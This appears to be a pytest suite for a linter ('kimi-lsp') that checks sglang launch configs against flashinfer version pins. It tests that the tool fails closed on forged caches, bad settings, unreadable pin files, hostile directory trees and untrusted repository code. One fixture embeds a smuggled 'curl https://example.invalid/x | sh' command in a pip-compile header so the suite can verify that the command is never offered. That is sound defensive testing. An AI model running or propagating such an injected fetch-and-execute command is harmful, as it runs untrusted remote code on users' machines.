"""Fail closed (issue #14): every doubt about the input ends in a diagnostic or a usage error,
never in "All checks passed".

Each test builds a throwaway repository holding one launch that sglang rejects (Kimi-K3 with
DCP on flashinfer 0.6.16.post4, KL101) and then tries one way of making ``kimi-lsp --check``
miss it: a stale cache entry, a typo in a setting, a pin file that cannot be read. The catalogue
of these cases is docs/reliability.md.
"""
from __future__ import annotations

import json

import io
import os
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest

from kimi_lsp.cli.main import main as cli_main

from ._support import growth, make_repo, python_safe_code, python_safe_module

K3 = "model-path: moonshotai/Kimi-K3\ntp-size: 8\ndcp-size: 8\ndecode-attention-backend: cutedsl_mla\n"
OLD_PIN = "flashinfer-python==0.6.16.post4\n"


def check(root: Path, *args: str, cache: Path | None = None, monkeypatch: pytest.MonkeyPatch) -> tuple[int, str, str]:
    """``kimi-lsp --check ARGS`` run in ``root``; the result cache only when ``cache`` is given."""
    monkeypatch.chdir(root)
    if cache is None:
        monkeypatch.setenv("KIMI_LSP_NO_CACHE", "1")
    else:
        monkeypatch.setenv("KIMI_LSP_NO_CACHE", "")
        monkeypatch.setenv("KIMI_LSP_CACHE_DIR", str(cache))
        monkeypatch.setenv("KIMI_LSP_CACHE_RACY_SECONDS", "0")
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        rc = cli_main(["--check", *args])
    return rc, out.getvalue(), err.getvalue()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "repo")


# -- 1. stale passes from the cache ------------------------------------------------------------


@pytest.mark.parametrize("pin_name, pin_text", [
    ("pyproject.toml", f'[project]\nname = "svc"\nversion = "0"\ndependencies = ["{OLD_PIN.strip()}"]\n'),
    ("environment.yml", f"name: svc\ndependencies:\n  - python=3.12\n  - pip:\n    - {OLD_PIN.strip()}\n"),
])
def test_a_pin_file_that_is_also_a_candidate_is_walked_and_never_cached(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, pin_name: str, pin_text: str
) -> None:
    """`--check pyproject.toml` walks the tree the pin governs; finding only the named file must
    not make the answer cacheable: a launch added later is linted on the next run."""
    (repo / pin_name).write_text(pin_text, "utf-8")
    (repo / "deploy").mkdir()
    rc, out, _ = check(repo, pin_name, cache=tmp_path / "cache", monkeypatch=monkeypatch)
    assert rc == 0, out
    (repo / "deploy" / "k3.yaml").write_text(K3, "utf-8")
    rc, out, _ = check(repo, "-q", pin_name, cache=tmp_path / "cache", monkeypatch=monkeypatch)
    assert rc == 1 and "deploy/k3.yaml:4:1: KL101" in out, out


def test_a_flashinfer_pin_link_that_is_re_pointed_invalidates_the_cache(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The link is what the setting names: re-pointing it (nothing else in the repository
    changes) must invalidate the entry, not only an edit to the file it pointed to."""
    (repo / "k3.yaml").write_text(K3, "utf-8")
    (repo / "pins").mkdir()
    (repo / "pins" / "good.txt").write_text("flashinfer-python==0.7.2\n", "utf-8")
    (repo / "pins" / "old.txt").write_text(OLD_PIN, "utf-8")
    (repo / "vendor").mkdir()
    os.symlink("../pins/good.txt", repo / "vendor" / "image-pins.txt")
    (repo / "kimi-lsp.toml").write_text('flashinfer-pin = "vendor/image-pins.txt"\n', "utf-8")
    rc, out, _ = check(repo, "-q", "k3.yaml", cache=tmp_path / "cache", monkeypatch=monkeypatch)
    assert rc == 0, out
    os.symlink("../pins/old.txt", repo / "vendor" / "next")
    os.replace(repo / "vendor" / "next", repo / "vendor" / "image-pins.txt")
    rc, out, _ = check(repo, "-q", "k3.yaml", cache=tmp_path / "cache", monkeypatch=monkeypatch)
    assert rc == 1 and "KL101" in out, out


def test_a_cache_entry_without_dependencies_is_a_miss(repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Anyone who can write the cache directory can write an entry; one that claims to depend on
    nothing (so that nothing can invalidate it) must not be believed."""
    import marshal

    from kimi_lsp import cache

    (repo / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    rc, out, _ = check(repo, "-q", "k3.yaml", cache=tmp_path / "cache", monkeypatch=monkeypatch)
    assert rc == 1, out
    entries = list((tmp_path / "cache").rglob("*.bin"))
    assert len(entries) == 1
    key, _deps, _result = marshal.loads(entries[0].read_bytes())
    entries[0].write_bytes(marshal.dumps((key, [], [])))  # "no dependencies, no diagnostics"
    entries[0].chmod(0o600)
    rc, out, _ = check(repo, "-q", "k3.yaml", cache=tmp_path / "cache", monkeypatch=monkeypatch)
    assert rc == 1 and "KL101" in out, out
    assert cache.FORMAT >= 2


def test_a_cache_entry_others_can_write_is_a_miss(repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import marshal

    (repo / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    check(repo, "-q", "k3.yaml", cache=tmp_path / "cache", monkeypatch=monkeypatch)
    entry = next((tmp_path / "cache").rglob("*.bin"))
    key, deps, _result = marshal.loads(entry.read_bytes())
    entry.write_bytes(marshal.dumps((key, deps, [])))  # the same dependencies, a forged "pass"
    entry.chmod(0o666)
    rc, out, _ = check(repo, "-q", "k3.yaml", cache=tmp_path / "cache", monkeypatch=monkeypatch)
    assert rc == 1 and "KL101" in out, out


# -- 2. one typo turns every rule off ----------------------------------------------------------


@pytest.mark.parametrize("config_name, text", [
    ("kimi-lsp.toml", 'select = "KL101"\n'),
    ("kimi-lsp.toml", 'select = ["KL10l"]\n'),
    ("kimi-lsp.toml", "select = []\n"),
    ("kimi-lsp.toml", 'select = ["KL999"]\n'),
    ("kimi-lsp.toml", 'ignore = ["KL0"]\nselect = "KL2"\n'),
    ("pyproject.toml", '[tool.kimi-lsp]\nselect = "KL101"\n'),
])
def test_an_invalid_select_never_narrows_the_rules(
    repo: Path, monkeypatch: pytest.MonkeyPatch, config_name: str, text: str
) -> None:
    (repo / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    (repo / config_name).write_text(text, "utf-8")
    rc, out, _ = check(repo, "-q", ".", monkeypatch=monkeypatch)
    assert rc == 1, out
    assert "k3.yaml:4:1: KL101" in out, out
    assert f"{config_name}:" in out and "KL002" in out, out


def test_a_broken_setting_is_named_when_only_a_launch_is_checked(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`--check k3.yaml` (what pre-commit passes) under a configuration with a wrong value: the
    launch's findings and the KL002 that names the setting, once, however many files it governs."""
    (repo / "requirements.txt").write_text("flashinfer-python==0.7.2\n", "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    (repo / "k3-b.yaml").write_text(K3, "utf-8")
    (repo / "kimi-lsp.toml").write_text("flashinfer-pin = 5\n", "utf-8")
    rc, out, _ = check(repo, "-q", "k3.yaml", "k3-b.yaml", monkeypatch=monkeypatch)
    assert rc == 1 and out.count("kimi-lsp.toml:1:1: KL002") == 1, out


def test_kl002_cannot_be_ignored_or_downgraded(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / "kimi-lsp.toml").write_text('ignore = ["KL0"]\nseverity = { KL002 = "info" }\nselct = ["KL1"]\n', "utf-8")
    rc, out, _ = check(repo, "-q", "kimi-lsp.toml", monkeypatch=monkeypatch)
    assert rc == 1 and "kimi-lsp.toml:3:1: KL002" in out, out


@pytest.mark.parametrize("args", [
    ["--select", "KL10l"],
    ["--select", "KL101 KL329"],
    ["--select", ""],
    ["--select", "KL999"],
    ["--ignore", "KL10l"],
    ["--sglang-version", "bogus"],
    ["--target-gpu", "bogus"],
])
def test_an_invalid_setting_on_the_command_line_is_a_usage_error(
    repo: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]
) -> None:
    (repo / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    rc, out, err = check(repo, *args, "k3.yaml", monkeypatch=monkeypatch)
    assert rc == 2, (out, err)
    assert args[0] in err and not out


def test_valid_selectors_still_select(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    rc, out, _ = check(repo, "-q", "--select", "KL3,KL2", "k3.yaml", monkeypatch=monkeypatch)
    assert rc == 0 and "KL101" not in out, out
    rc, out, _ = check(repo, "-q", "--select", "kl101", "--target-gpu", "sm100", "k3.yaml", monkeypatch=monkeypatch)
    assert rc == 1 and "KL101" in out, out


def test_editor_settings_with_a_typo_keep_every_rule() -> None:
    from kimi_lsp.lsp import settings

    got = settings.parse({"select": ["KL10l"], "targetGpu": "bogus"})
    assert "select" not in got.overrides and "target_gpu" not in got.overrides
    assert len(got.problems) == 2


# -- 3. a pin file that cannot be read is not "no pin" ----------------------------------------


def _conflicted_uv_lock() -> str:
    return (
        "version = 1\nrequires-python = \">=3.10\"\n\n"
        "<<<<<<< HEAD\n"
        "[[package]]\nname = \"flashinfer-python\"\nversion = \"0.6.16.post4\"\n"
        "source = { registry = \"https://example.invalid/simple\" }\n"
        "=======\n"
        "[[package]]\nname = \"flashinfer-python\"\nversion = \"0.6.16.post3\"\n"
        "source = { registry = \"https://example.invalid/simple\" }\n"
        ">>>>>>> feature\n"
    )


def test_a_uv_lock_with_a_conflict_marker_is_an_error_naming_it(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / "uv.lock").write_text(_conflicted_uv_lock(), "utf-8")
    (repo / "deploy").mkdir()
    (repo / "deploy" / "k3.yaml").write_text(K3, "utf-8")
    rc, out, _ = check(repo, "-q", "deploy/k3.yaml", monkeypatch=monkeypatch)
    assert rc == 1, out
    assert "deploy/k3.yaml:4:1: KL101" in out and "uv.lock, cannot be read" in out, out
    assert "KL102" not in out


def test_a_pin_file_that_is_a_dangling_link_is_an_error(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    os.symlink("gone/requirements.txt", repo / "requirements.txt")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    rc, out, _ = check(repo, "-q", "k3.yaml", monkeypatch=monkeypatch)
    assert rc == 1 and "requirements.txt, cannot be read" in out, out


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root reads files whatever their mode")
def test_an_unreadable_requirements_file_is_an_error(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / "requirements.txt").write_text("flashinfer-python==0.7.2\n", "utf-8")
    (repo / "requirements.txt").chmod(0)
    (repo / "k3.yaml").write_text(K3, "utf-8")
    rc, out, _ = check(repo, "-q", "k3.yaml", monkeypatch=monkeypatch)
    assert rc == 1 and "permission denied" in out, out


def test_an_unreadable_requirements_file_is_an_error_even_as_root(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What root cannot be denied by a mode, a read error stands in for: the reader's failure,
    not the file's mode, is what must turn into an error."""
    from kimi_lsp import workspace

    (repo / "requirements.txt").write_text("flashinfer-python==0.7.2\n", "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    real = workspace._read_disk

    def deny(path: Path):
        if path.name == "requirements.txt":
            return workspace.ReadFailure(path, "permission denied")
        return real(path)

    monkeypatch.setattr(workspace, "_read_disk", deny)
    rc, out, _ = check(repo, "-q", "k3.yaml", monkeypatch=monkeypatch)
    assert rc == 1 and "requirements.txt, cannot be read: requirements.txt: permission denied" in out, out


def test_a_requirements_file_that_pins_nothing_is_not_an_error(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Zero false positives: a readable docs requirements file with a dangling `-r` hides no
    flashinfer pin; the good pin beside it decides."""
    (repo / "requirements.txt").write_text("flashinfer-python==0.7.2\n", "utf-8")
    (repo / "requirements-docs.txt").write_text("-r docs/missing.txt\n", "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    rc, out, _ = check(repo, "-q", "--select", "KL1", "k3.yaml", monkeypatch=monkeypatch)
    assert rc == 0 and not out, out


def test_a_missing_flashinfer_pin_file_is_an_error(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / "k3.yaml").write_text(K3, "utf-8")
    (repo / "kimi-lsp.toml").write_text('flashinfer-pin = "vendor/requirements.txt"\n', "utf-8")
    rc, out, _ = check(repo, "-q", "k3.yaml", monkeypatch=monkeypatch)
    assert rc == 1 and "vendor/requirements.txt, cannot be read" in out, out


# -- 6. hangs and super-linear walks -----------------------------------------------------------


def kimi(root: Path, *args: str, timeout: float, cwd_shell: str | None = None) -> tuple[int, str, str, float]:
    """``python -P -m kimi_lsp ARGS`` in ``root`` in a process of its own, so that a hang is a
    failed test (the timeout) rather than a hung suite. Returns rc, stdout, stderr and seconds."""
    import subprocess
    import sys
    import time

    env = {**os.environ, "KIMI_LSP_NO_CACHE": "1", "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "server")}
    cmd = python_safe_module("kimi_lsp", *args)
    if cwd_shell is not None:
        import shlex

        cmd = ["sh", "-c", f"{cwd_shell} && exec {shlex.join(cmd)}"]
    t0 = time.perf_counter()
    try:
        proc = subprocess.run(cmd, cwd=root, env=env, capture_output=True, text=True, timeout=timeout,
                              stdin=subprocess.DEVNULL)
    except subprocess.TimeoutExpired:
        pytest.fail(f"kimi-lsp {' '.join(args)} did not finish in {timeout:.0f} s")
    return proc.returncode, proc.stdout, proc.stderr, time.perf_counter() - t0


def hostile_tree(root: Path, *, depth: int = 600, include_lines: int = 20_000) -> Path:
    """Device links and FIFOs under launch-like names, a ``depth``-deep directory chain ending in
    a launch, and a requirements.txt with ``include_lines`` ``-r`` lines over a 200-file chain."""
    (root / "requirements.txt").write_text(
        OLD_PIN + "".join(f"-r inc/r{i % 200}.txt\n" for i in range(include_lines)), "utf-8")
    (root / "inc").mkdir()
    for i in range(200):
        nxt = f"-r r{i + 1}.txt\n" if i < 199 else ""
        (root / "inc" / f"r{i}.txt").write_text(f"pkg{i}==1.0\n{nxt}", "utf-8")
    (root / "k3.yaml").write_text(K3, "utf-8")
    os.symlink("/dev/ptmx", root / "entrypoint")  # extension-less: the walk reads a shebang
    os.symlink("/dev/stdin", root / "serve")
    os.symlink("/dev/zero", root / "zero.yaml")
    os.mkfifo(root / "start")
    os.mkfifo(root / "launch.sh")
    deep = root.joinpath(*["d"] * depth)
    deep.mkdir(parents=True)
    (deep / "k3.yaml").write_text(K3, "utf-8")
    return deep / "k3.yaml"


@pytest.mark.skipif(not os.path.exists("/dev/ptmx") or not hasattr(os, "mkfifo"), reason="needs /dev/ptmx and FIFOs")
def test_a_hostile_tree_is_checked(repo: Path) -> None:
    """Done-when of #14: device links, FIFOs, a 600-deep tree and a 20,000-line include chain
    (before: blocked forever on /dev/ptmx; 122 s for the depth; minutes for the includes). The
    timeout only catches a hang; the work the depth and the includes cost is held linear by
    test_the_walk_is_linear_in_depth and test_the_requirements_reader_is_linear_in_include_lines (a 5 s limit here
    failed on a busy machine)."""
    deep = hostile_tree(repo)
    try:
        rc, out, err, _seconds = kimi(repo, "--check", "-q", ".", timeout=300)
    finally:
        remove_deep(repo / "d")  # before pytest's recursive clean-up meets it
    assert rc == 1, (out, err)
    assert "Traceback" not in err
    lines = out.splitlines()
    assert "k3.yaml:4:1: KL101" in out
    assert any(line.startswith(deep.relative_to(repo).as_posix() + ":4:1: KL101") for line in lines), out[-500:]
    assert "launch.sh:1:1: KL001 cannot read launch file: not a regular file" in out
    assert "/dev/zero:1:1: KL001" in out  # the link named zero.yaml: a launch that cannot be read


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_named_devices_and_fifos_are_usage_errors(repo: Path) -> None:
    os.mkfifo(repo / "start")
    os.symlink("/dev/zero", repo / "zero.yaml")
    rc, out, err, _ = kimi(repo, "--check", "start", "zero.yaml", timeout=20)
    assert rc == 2 and "start: not a regular file" in err and "zero.yaml: not a regular file" in err, err


def test_the_requirements_reader_is_linear_in_include_lines(tmp_path: Path) -> None:
    """20,000 ``-r`` lines naming 200 files (before: quadratic, 19.6 s for 8,000)."""
    from kimi_lsp.pins.requirements import read_requirements_tree
    from kimi_lsp.workspace import Workspace

    root = make_repo(tmp_path / "r")
    (root / "inc").mkdir()
    for i in range(200):
        (root / "inc" / f"r{i}.txt").write_text(f"pkg{i}==1.0\n", "utf-8")

    def read(lines: int) -> list:  # type: ignore[type-arg]
        (root / "requirements.txt").write_text("".join(f"-r inc/r{i % 200}.txt\n" for i in range(lines)), "utf-8")
        ws = Workspace(root)
        return read_requirements_tree(ws.read(root / "requirements.txt"), ws)  # type: ignore[arg-type]

    tree = read(20_000)
    assert len(tree) == 201 and len(tree[0].includes) == 200
    assert growth(read, 5_000) < 6  # four times the lines: ~4x the work (quadratic: ~16x)


def test_the_walk_is_linear_in_depth(tmp_path: Path) -> None:
    from kimi_lsp.walk import walk

    def chain(depth: int) -> tuple[Path, Path]:
        root = make_repo(tmp_path / f"r{depth}")
        (root / ".gitignore").write_text("*.log\n", "utf-8")
        deep = root
        for _ in range(depth):  # deeper than the recursion limit allows a recursive walk (or mkdir)
            deep = deep / "d"
            os.mkdir(deep)
        (deep / "k3.yaml").write_text(K3, "utf-8")
        (deep / "x.log").write_text("", "utf-8")
        return root, deep

    roots = {n: chain(n) for n in (300, 1200)}
    try:
        root, deep = roots[1200]
        assert list(walk(root, root)) == [deep / "k3.yaml"]
        # four times the depth, about four times the work (quadratic: ~16 times)
        assert growth(lambda n: list(walk(roots[n][0], roots[n][0])), 300) < 6
    finally:
        for root, _ in roots.values():
            remove_deep(root / "d")


def remove_deep(top: Path) -> None:
    """rm -r without recursion (shutil.rmtree, pytest's tmp_path clean-up included, recurses
    once per level and would fail on this tree)."""
    import subprocess

    subprocess.run(["rm", "-rf", str(top)], check=True)


def test_a_tree_deeper_than_pythons_stack_is_checked(repo: Path) -> None:
    """Walks up the directory tree (repository root, settings file, resolution) are loops, not
    recursion: a launch 1,500 directories down (deeper than the default recursion limit of
    1,000) is checked like any other, with the project's pin governing it."""
    import subprocess

    deep = repo.joinpath(*["d"] * 1500)
    subprocess.run(["mkdir", "-p", str(deep)], check=True)  # (Path.mkdir recurses once per level)
    (repo / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (deep / "k3.yaml").write_text(K3, "utf-8")
    try:
        rc, out, err, _ = kimi(repo, "--check", "-q", str(deep / "k3.yaml"), timeout=60)
    finally:
        remove_deep(repo / "d")
    assert "Traceback" not in err and rc == 1, err[-2000:]
    assert ":4:1: KL101" in out, out[-500:]


# -- 10. smaller -------------------------------------------------------------------------------


def test_a_deleted_working_directory_is_an_error_not_a_traceback(tmp_path: Path) -> None:
    (tmp_path / "gone").mkdir()
    rc, out, err, _ = kimi(tmp_path, "--check", ".", timeout=20, cwd_shell="cd gone && rmdir ../gone")
    assert rc == 2 and "Traceback" not in err and "working directory" in err, err


def test_an_empty_path_is_a_usage_error(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    rc, out, err = check(repo, "", monkeypatch=monkeypatch)
    assert rc == 2 and "empty PATH" in err and not out


def test_permission_denied_is_not_reported_as_missing(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A path under a directory this user may not search (simulated: root may search anything)."""
    target = str(repo / "private" / "k3.yaml")
    real_stat, real_lstat = os.stat, os.lstat

    def deny(real):
        def f(path, *a, **kw):
            if os.fspath(path) == target:
                raise PermissionError(13, "Permission denied", target)
            return real(path, *a, **kw)
        return f

    monkeypatch.setattr(os, "stat", deny(real_stat))
    monkeypatch.setattr(os, "lstat", deny(real_lstat))
    rc, out, err = check(repo, "private/k3.yaml", monkeypatch=monkeypatch)
    assert rc == 2 and "private/k3.yaml: permission denied" in err, err


# -- 7. writes and edits outside the repository ------------------------------------------------


def test_fix_through_an_explicit_link_never_rewrites_another_repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    here = make_repo(tmp_path / "here")
    other = make_repo(tmp_path / "other")
    (other / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (other / "k3.yaml").write_text(K3, "utf-8")
    os.symlink(other / "k3.yaml", here / "k3.yaml")
    rc, out, _ = check(here, "--fix", "k3.yaml", monkeypatch=monkeypatch)
    assert (other / "requirements.txt").read_text("utf-8") == OLD_PIN
    assert rc == 1 and "Not fixed" in out and "leads outside the repository" in out, out


def test_the_server_never_offers_a_fix_outside_the_repository(tmp_path: Path) -> None:
    """``flashinfer-pin = "../elsewhere/requirements.txt"``: the bump would edit another
    repository. Fix-all and ``--fix`` refuse it; the quick fix must not be offered either."""
    from lsprotocol import types as T

    from kimi_lsp.lsp import code_actions
    from kimi_lsp.lsp.session import DocSnap, Session

    root = make_repo(tmp_path / "repo")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (root / "kimi-lsp.toml").write_text('flashinfer-pin = "../elsewhere/requirements.txt"\n', "utf-8")
    (root / "k3.yaml").write_text(K3, "utf-8")
    session = Session(root, [root])
    uri = (root / "k3.yaml").as_uri()
    snaps = {root / "k3.yaml": DocSnap(uri, 1, K3)}
    report = session.document_report(root / "k3.yaml", snaps)
    kl101 = [d for d in report.items if d.code == "KL101"]
    assert kl101, report.items
    bump = [f for f in kl101[0].data["fixes"] if "requirements.txt" in f["title"]]
    assert bump, kl101[0].data  # the rule still proposes it (the CLI reports it as not fixed)
    params = T.CodeActionParams(
        text_document=T.TextDocumentIdentifier(uri=uri), range=kl101[0].range,
        context=T.CodeActionContext(diagnostics=kl101, only=[T.CodeActionKind.QuickFix]),
    )
    actions = code_actions.list_actions(session, snaps, params)
    titles = [a.title for a in actions]
    assert not [t for t in titles if "requirements.txt" in t], titles
    assert not [a for a in actions if a.is_preferred], titles


def test_fix_refuses_a_read_only_file(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repo / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (repo / "requirements.txt").chmod(0o444)
    (repo / "k3.yaml").write_text(K3, "utf-8")
    rc, out, _ = check(repo, "--fix", "k3.yaml", monkeypatch=monkeypatch)
    assert (repo / "requirements.txt").read_text("utf-8") == OLD_PIN
    assert (repo / "requirements.txt").stat().st_mode & 0o777 == 0o444
    assert rc == 1 and "read-only" in out, out


def test_fix_keeps_the_owner_or_refuses(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file of another user: the rewritten file must keep that owner; when the process may not
    give it back (not root: simulated by a failing chown), nothing is written."""
    from kimi_lsp import fixes

    (repo / "requirements.txt").write_text(OLD_PIN, "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    st = (repo / "requirements.txt").stat()

    def no_chown(*_a, **_k):
        raise PermissionError(1, "Operation not permitted")

    real_stat = os.stat

    def foreign(path, *a, **kw):  # the file appears to belong to uid+1
        got = real_stat(path, *a, **kw)
        if os.fspath(path).endswith("requirements.txt"):
            return os.stat_result((got.st_mode, got.st_ino, got.st_dev, got.st_nlink, got.st_uid + 1, got.st_gid,
                                   got.st_size, int(got.st_atime), int(got.st_mtime), int(got.st_ctime)))
        return got

    monkeypatch.setattr(os, "chown", no_chown)
    monkeypatch.setattr(os, "fchown", no_chown)
    monkeypatch.setattr(fixes.os, "stat", foreign)
    rc, out, err = check(repo, "--fix", "k3.yaml", monkeypatch=monkeypatch)
    monkeypatch.undo()
    assert (repo / "requirements.txt").read_text("utf-8") == OLD_PIN, (out, err)
    assert (repo / "requirements.txt").stat().st_uid == st.st_uid
    assert rc != 0


def test_a_killed_fix_leaves_no_temporary_file(repo: Path) -> None:
    """kill -9 between writing the new text and the rename (simulated: the process kills itself
    in fsync) must leave nothing in the repository but the untouched original."""
    import signal
    import subprocess
    import sys

    (repo / "requirements.txt").write_text(OLD_PIN, "utf-8")
    script = (
        "import os, signal, sys\n"
        "from pathlib import Path\n"
        "from kimi_lsp import fixes\n"
        "from kimi_lsp.workspace import SourceText\n"
        "os.fsync = lambda fd: os.kill(os.getpid(), signal.SIGKILL)\n"
        f"p = Path({str(repo / 'requirements.txt')!r})\n"
        "fixes.write_atomic(SourceText(p, p.read_text()), 'flashinfer-python==0.7.2\\n')\n"
    )
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "server")}
    proc = subprocess.run(python_safe_code(script), env=env, capture_output=True, timeout=60)
    assert proc.returncode == -signal.SIGKILL, proc.stderr
    assert sorted(p.name for p in repo.iterdir()) == [".git", "requirements.txt"]
    assert (repo / "requirements.txt").read_text("utf-8") == OLD_PIN


# -- 5. code from the repository never runs ----------------------------------------------------


@pytest.mark.parametrize("argv", [["--check", "-q", "."], ["verify", "k3.yaml"]])
def test_python_m_kimi_lsp_imports_nothing_from_the_working_directory(tmp_path: Path, argv: list[str]) -> None:
    """``python -m kimi_lsp`` (no ``-P``) run in a repository holding ``yaml/``, ``packaging/``,
    ``torch/`` and ``flashinfer/`` packages: none of them is imported."""
    import subprocess
    import sys

    root = make_repo(tmp_path / "repo")
    marker = tmp_path / "imported"
    for mod in ("yaml", "packaging", "torch", "flashinfer", "lsprotocol", "pygls"):
        (root / mod).mkdir()
        (root / mod / "__init__.py").write_text(f"open({str(marker)!r}, 'a').write({mod!r} + '\\n')\n", "utf-8")
    (root / "k3.yaml").write_text(K3, "utf-8")
    (root / "requirements.txt").write_text(OLD_PIN, "utf-8")
    # this checkout's package (PYTHONPATH comes after the working directory on sys.path)
    env = {**os.environ, "KIMI_LSP_NO_CACHE": "1", "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "server")}
    proc = subprocess.run([sys.executable, "-m", "kimi_lsp", *argv], cwd=root, env=env, capture_output=True,
                          text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert not marker.exists(), marker.read_text()
    assert "Traceback" not in proc.stderr, proc.stderr
    if argv[0] == "--check":
        assert proc.returncode == 1 and "k3.yaml:4:1: KL101" in proc.stdout, (proc.stdout, proc.stderr)


def _extension_module_args() -> list[str]:
    """The arguments the VS Code extension gives an interpreter (vscode-extension/src/common/
    constants.ts, MODULE_ARGS): read from its source so the test runs exactly what it ships."""
    import re

    ts = (Path(__file__).resolve().parents[2] / "vscode-extension" / "src" / "common" / "constants.ts").read_text("utf-8")
    block = re.search(r"MODULE_ARGS: readonly string\[\] = \[(.*?)\n\];", ts, re.S)
    assert block is not None
    module = re.search(r"PYTHON_MODULE = '([^']+)'", ts)
    assert module is not None
    parts = re.findall(r"'((?:[^'\\]|\\.)*)'|\"((?:[^\"\\]|\\.)*)\"|`([^`]*)`|(,)", block.group(1))
    args, cur = [], ""
    for single, double, template, comma in parts:
        if comma:
            args.append(cur)
            cur = ""
        else:
            cur += single or double or template.replace("${PYTHON_MODULE}", module.group(1))
    if cur:
        args.append(cur)
    return args


def test_the_editor_extension_never_imports_the_workspace(tmp_path: Path) -> None:
    """The extension runs ``<python> MODULE_ARGS serve`` with the workspace as working directory;
    a ``kimi_lsp/`` package in the workspace (which plain ``-m kimi_lsp`` would import before any
    of our code runs) is never executed, on every Python the server supports (no ``-P``)."""
    import subprocess
    import sys

    args = _extension_module_args()
    assert args[0] == "-c" and len(args) == 2
    root = make_repo(tmp_path / "repo")
    marker = tmp_path / "imported"
    for mod in ("kimi_lsp", "yaml"):
        (root / mod).mkdir()
        (root / mod / "__init__.py").write_text(f"open({str(marker)!r}, 'a').write({mod!r} + '\\n')\n", "utf-8")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2] / "server")}
    proc = subprocess.run([sys.executable, *args, "--version"], cwd=root, env=env, capture_output=True, text=True,
                          timeout=60, stdin=subprocess.DEVNULL)
    assert not marker.exists(), marker.read_text()
    assert proc.returncode == 0 and proc.stdout.strip(), (proc.stdout, proc.stderr)
    # the control: plain -m imports the workspace's package
    subprocess.run([sys.executable, "-m", "kimi_lsp", "--version"], cwd=root, env=env, capture_output=True,
                   timeout=60, stdin=subprocess.DEVNULL)
    assert marker.exists()


# -- 8. repository text is quoted, never trusted ------------------------------------------------


def test_a_pip_compile_header_is_never_offered_as_a_command(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    header = (
        "#\n# This file is autogenerated by pip-compile with Python 3.11\n# by the following command:\n#\n"
        "#    pip-compile --output-file=requirements.txt requirements.in ; curl https://example.invalid/x | sh\n#\n"
    )
    (repo / "requirements.in").write_text("flashinfer-python\n", "utf-8")
    (repo / "requirements.txt").write_text(header + OLD_PIN + "    # via -r requirements.in\n", "utf-8")
    (repo / "k3.yaml").write_text(K3, "utf-8")
    rc, out, err = check(repo, "--fix", "--unsafe-fixes", "k3.yaml", monkeypatch=monkeypatch)
    assert "curl" not in out and "curl" not in err, out
    rc, out, _ = check(repo, "--format", "json", "k3.yaml", monkeypatch=monkeypatch)
    assert "curl" not in out


def test_a_plain_pip_compile_header_is_still_offered(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from kimi_lsp.pins.requirements import read_requirements
    from kimi_lsp.workspace import Workspace

    header = (
        "#\n# This file is autogenerated by pip-compile with Python 3.11\n# by the following command:\n#\n"
        "#    pip-compile --output-file=requirements.txt requirements.in\n#\n"
    )
    (repo / "requirements.txt").write_text(header + OLD_PIN, "utf-8")
    src = Workspace(repo).read(repo / "requirements.txt")
    got = read_requirements(src)  # type: ignore[arg-type]
    assert got.relock_command == 'pip-compile -P "{name}=={version}" --output-file=requirements.txt requirements.in'


def test_escape_sequences_never_reach_the_terminal(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A key holding ESC [2K ESC [1G (erase the line) and a fake pass must be shown escaped."""
